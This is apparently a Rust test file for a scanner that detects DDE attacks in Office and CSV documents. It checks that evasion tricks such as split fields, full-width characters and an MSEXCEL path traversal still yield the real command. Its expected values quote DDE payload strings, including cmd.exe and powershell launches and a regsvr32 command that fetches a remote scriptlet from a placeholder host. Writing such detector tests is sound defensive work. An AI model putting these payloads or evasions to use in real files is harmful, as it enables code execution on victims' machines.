//! Evasions: documents that hide DDE from naive scanners (fields split or wrapped in unusual
//! ways, alternate content, the Strict namespace, full-width CSV, the MSEXCEL traversal) still
//! yield the exact command Office would run, once.

use serde_json::Value;

use crate::util::{Scan, scan, testdata};

/// The finding rows of the artifact named `name`, in timeline order.
fn rows<'a>(run: &'a Scan, name: &str) -> Vec<&'a Value> {
    run.rows
        .iter()
        .filter(|r| r["severity"] != "info" && r["source_path"] == name)
        .collect()
}

/// Scans the positive fixtures named in `names` together.
fn scan_positives(names: &[&str]) -> Scan {
    let paths: Vec<_> = names
        .iter()
        .map(|n| testdata(&format!("documents/positive/{n}")))
        .collect();
    let refs: Vec<&std::path::Path> = paths.iter().map(|p| p.as_path()).collect();
    let run = scan(&refs, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    for name in names {
        assert_eq!(run.artifact(name)["status"], "analyzed", "{name}");
    }
    run
}

#[test]
fn word_field_evasions_give_the_real_command() {
    let run = scan_positives(&[
        "evasion-one-run.docx",
        "evasion-wrappers.docx",
        "evasion-strict.docx",
        "evasion-quote-split.docx",
        "evasion-mixed-case.docx",
    ]);
    assert_eq!(
        run.commands_in("evasion-one-run.docx"),
        [r#"c:\windows\system32\cmd.exe "/c calc.exe""#]
    );
    // Document order: one field per wrapper, then the field spread over all of them.
    let wrapped: Vec<&str> = rows(&run, "evasion-wrappers.docx")
        .iter()
        .map(|r| r["command"].as_str().unwrap())
        .collect();
    assert_eq!(
        wrapped,
        [
            r#"cmd.exe "/c echo smartTag""#,
            r#"cmd.exe "/c echo ins""#,
            r#"cmd.exe "/c echo hyperlink""#,
            r#"cmd.exe "/c echo sdt""#,
            r#"cmd.exe "/c echo customXml""#,
            r#"cmd.exe "/c echo spanning""#,
        ]
    );
    assert_eq!(
        run.commands_in("evasion-strict.docx"),
        [r#"C:\Windows\System32\cmd.exe "/c powershell -nop -c calc.exe""#]
    );
    let quote = rows(&run, "evasion-quote-split.docx");
    assert_eq!(quote.len(), 1);
    assert_eq!(quote[0]["command"], r#"cmd.exe "/c calc.exe""#);
    assert_eq!(quote[0]["field_code"], r#"DDEAUTO cmd.exe "/c calc.exe""#);
    let mixed = rows(&run, "evasion-mixed-case.docx");
    assert_eq!(mixed.len(), 1);
    assert_eq!(mixed[0]["rule_id"], "ddesweep.document.ddeauto_field");
    assert_eq!(
        mixed[0]["command"],
        r#"c:\windows\system32\cmd.exe "/c echo mixed""#
    );
}

#[test]
fn alternate_content_is_reported_once_and_fallback_only_fields_are_kept() {
    let run = scan_positives(&["evasion-alternate-content.docx"]);
    let found: Vec<(&str, u64)> = rows(&run, "evasion-alternate-content.docx")
        .iter()
        .map(|r| {
            (
                r["command"].as_str().unwrap(),
                r["offset"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!(found[0].0, r#"c:\windows\system32\cmd.exe "/c calc.exe""#);
    assert_eq!(found[1].0, r#"cmd.exe "/c echo fallback""#);
    assert!(found[0].1 < found[1].1);
}

#[test]
fn a_field_without_end_marker_after_a_complete_one_is_still_run() {
    let run = scan_positives(&["evasion-unterminated.docx"]);
    let found = rows(&run, "evasion-unterminated.docx");
    assert_eq!(found.len(), 1);
    assert_eq!(
        found[0]["command"],
        r#"c:\windows\system32\cmd.exe "/c echo unterminated""#
    );
    // A caveat, not a failure: everything was read.
    let artifact = run.artifact("evasion-unterminated.docx");
    assert_eq!(artifact["status"], "analyzed");
    assert_eq!(artifact["findings"], 1);
}

#[test]
fn csv_evasions_give_the_real_command() {
    let run = scan_positives(&[
        "evasion-fullwidth.csv",
        "evasion-leading-quotes.csv",
        "evasion-concat.csv",
        "evasion-msexcel.csv",
    ]);
    let full = rows(&run, "evasion-fullwidth.csv");
    assert_eq!(full.len(), 1);
    assert_eq!(full[0]["command"], "cmd /c calc.exe");
    // The formula as Excel reads it, full-width forms folded.
    assert_eq!(full[0]["field_code"], "=cmd|'/c calc.exe'!A0");
    assert_eq!(full[0]["cell"], "R2C2");
    let quotes = rows(&run, "evasion-leading-quotes.csv");
    assert_eq!(quotes.len(), 1);
    assert_eq!(quotes[0]["command"], "cmd /c calc.exe");
    assert_eq!(quotes[0]["field_code"], "=cmd|'/c calc.exe'!A0");
    let concat = rows(&run, "evasion-concat.csv");
    assert_eq!(concat.len(), 1);
    assert_eq!(concat[0]["command"], "cmd /c calc.exe");
    assert_eq!(concat[0]["field_code"], "=AAAA+BBBB&cmd|'/c calc.exe'!A0");
    let msexcel = rows(&run, "evasion-msexcel.csv");
    assert_eq!(msexcel.len(), 1);
    let row = msexcel[0];
    // The traversal cancels the service name and reaches the drive root: the program that runs.
    assert_eq!(
        row["command"],
        r"\Windows\System32\regsvr32 /s /n /u /i:http://198.51.100.4/a.sct scrobj.dll"
    );
    assert_eq!(row["dde_service"], "MSEXCEL");
    assert_eq!(
        row["dde_topic"],
        r"\..\..\..\Windows\System32\regsvr32 /s /n /u /i:http://198.51.100.4/a.sct scrobj.dll"
    );
    assert_eq!(row["severity"], "critical");
    assert_eq!(row["markers"], "regsvr32,http://");
}

#[test]
fn a_number_before_a_bar_is_no_dde_service() {
    let run = scan(
        &[&testdata("documents/negative/evasion-number-bar.csv")],
        &[],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.findings(), Vec::<(String, String, String)>::new());
    assert_eq!(run.artifact("evasion-number-bar.csv")["status"], "analyzed");
}

#[test]
fn xlsx_dde_formula_needs_no_link_part() {
    let path = testdata("documents/positive/excel-formula.xlsm");
    // The generator's bytes (the committed file is the same): reading testdata here would move
    // its access times while other tests scan it.
    let fixture = ddesweep_testgen::fixture("documents/positive/excel-formula.xlsm").unwrap();
    let zip = zip::ZipArchive::new(std::io::Cursor::new(fixture.bytes)).unwrap();
    assert!(
        zip.file_names()
            .all(|n| !n.unwrap().contains("externalLink")),
        "the fixture must have no link part"
    );
    let run = scan(&[&path], &[]);
    let found = rows(&run, "excel-formula.xlsm");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0]["part"], "xl/worksheets/sheet1.xml");
    assert_eq!(found[0]["cell"], "B2");
    assert_eq!(found[0]["data_type"], "ddesweep:document:dde_formula");
}
